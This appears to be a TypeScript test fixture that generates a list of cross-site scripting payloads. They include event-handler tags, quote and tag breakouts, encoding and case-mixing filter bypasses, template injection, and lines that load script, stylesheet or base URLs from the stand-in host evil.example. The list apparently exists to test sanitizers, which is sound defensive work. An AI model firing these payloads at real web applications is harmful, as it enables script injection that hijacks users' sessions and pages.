/** Short, so that it fits into a size or a colour: whoever runs it leaves `window.ran` behind. */
const RUN = 'ran=1';

/** Ways in which a text becomes a program, as they are tried in life: a hundred, made from a few families. */
const ELEMENTS = ['img', 'svg', 'body', 'video', 'audio', 'input', 'details', 'iframe', 'object', 'marquee'];
const EVENTS = [
  'src=x onerror',
  'src=x onload',
  'autofocus tabindex=1 onfocus',
  'open ontoggle',
  'src=x onmouseover',
];

const WHOLE_TAGS = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${RUN}>`));

const BROKEN_OUT = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</noscript>',
  '-->',
  ']]>',
].flatMap((way) => [`${way}<script>${RUN}</script>`, `${way} onmouseover="${RUN}" x="`]);

const OTHERS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `<a href="javascript:${RUN}">x</a>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">`,
  `<style>@import'//evil.example/x.css'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action=javascript:${RUN}><button>x`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<!--<img src="--><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
];

export const HOSTILE_TEXTS: readonly string[] = [...WHOLE_TAGS, ...BROKEN_OUT, ...OTHERS];
